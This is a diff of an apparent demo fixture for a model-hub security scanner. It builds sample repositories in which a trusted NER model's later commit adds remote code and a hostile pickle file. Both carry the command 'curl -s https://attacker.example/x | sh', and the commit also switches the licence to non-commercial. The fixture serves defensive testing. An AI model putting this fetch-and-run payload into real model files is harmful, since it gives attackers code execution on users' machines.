@@ -6,21 +6,8 @@ import json
 from dataclasses import dataclass
 
 from scanner.demo.hub.state import Account, HubState, Repository
+from scanner.demo.hub_cards import BASE_CARD, DATA_CARD, PRETRAINED_CARD, model_card
 from scanner.demo.models import hostile_torch_zip, safetensors
-
-_CARD = """---
-license: {license}
-library_name: transformers
-pipeline_tag: token-classification
-base_model: {base}
-datasets: [larkspur/news]
----
-# Entity recogniser
-
-## Intended use
-
-## Training
-"""
 
 _CODE = b"""import os
 
@@ -32,6 +19,17 @@ os.system("curl -s https://attacker.example/x | sh")
 class Recogniser(PreTrainedModel):
     pass
 """
+
+_CONFIG = {
+    "architectures": ["BertModel"],
+    "hidden_size": 2,
+    "max_position_embeddings": 512,
+    "model_type": "bert",
+    "num_attention_heads": 1,
+    "num_hidden_layers": 1,
+    "torch_dtype": "float32",
+    "vocab_size": 30522,
+}
 
 
 @dataclass(frozen=True)
@@ -48,23 +46,51 @@ class SampleHub:
 
 
 def sample_hub() -> SampleHub:
-    """A Hub with a good repository whose next commit is bad, and with the model that it was made from."""
+    """A Hub with a good repository whose next commit is bad, and with what it was made from."""
     state = HubState()
     state.accounts["larkspur"] = Account("larkspur", verified=True, fullname="Larkspur Labs")
+    pretrained = state.add(Repository("larkspur/pretrained", downloads=90_000))
+    pretrained.commit(
+        {
+            "README.md": PRETRAINED_CARD.encode(),
+            "config.json": json.dumps(_CONFIG).encode(),
+            "model.safetensors": safetensors({"encoder.weight": [0.5, 0.5]}),
+        },
+        "Publish the pre-trained model",
+    )
+    news = state.add(Repository("larkspur/news", "dataset", downloads=9_000))
+    news.commit(
+        {
+            "README.md": DATA_CARD.encode(),
+            "LICENSE": b"CC BY 4.0\n",
+            "train.csv": b"text,label\nBerlin,LOC\n",
+        },
+        "Publish the articles",
+    )
     base = state.add(Repository("larkspur/encoder", downloads=120_000))
     first = base.commit(
         {
-            "README.md": b"---\nlicense: apache-2.0\n---\n# Encoder\n",
-            "config.json": json.dumps({"model_type": "bert"}).encode(),
+            "README.md": BASE_CARD.encode(),
+            "config.json": json.dumps(_CONFIG).encode(),
             "model.safetensors": safetensors({"encoder.weight": [0.5, -0.5]}),
         },
         "Publish the encoder",
     )
-    recogniser = state.add(Repository("larkspur/ner", downloads=4_000, parameters={"F32": 2}))
+    recogniser = state.add(
+        Repository(
+            "larkspur/ner",
+            tags=["transformers", "safetensors", "token-classification", "arxiv:1810.04805", "region:eu"],
+            pipeline_tag="token-classification",
+            library="transformers",
+            downloads=4_000,
+            parameters={"F32": 2},
+        )
+    )
     reviewed = recogniser.commit(
         {
-            "README.md": _CARD.format(license="apache-2.0", base="larkspur/encoder").encode(),
-            "config.json": json.dumps({"model_type": "bert", "architectures": ["BertModel"]}).encode(),
+            "README.md": model_card("apache-2.0").encode(),
+            "LICENSE": b"Apache License, Version 2.0\n",
+            "config.json": json.dumps({**_CONFIG, "architectures": ["BertForTokenClassification"]}).encode(),
             "model.safetensors": safetensors({"ner.weight": [0.25, 0.75]}),
         },
         "Publish the recogniser",
@@ -72,7 +98,7 @@ def sample_hub() -> SampleHub:
     configuration = {"model_type": "recogniser", "auto_map": {"AutoModel": "recogniser.Recogniser"}}
     later = recogniser.commit(
         {
-            "README.md": _CARD.format(license="cc-by-nc-4.0", base="larkspur/encoder").encode(),
+            "README.md": model_card("cc-by-nc-4.0").encode(),
             "config.json": json.dumps(configuration).encode(),
             "recogniser.py": _CODE,
             "pytorch_model.bin": hostile_torch_zip("curl -s https://attacker.example/x | sh"),
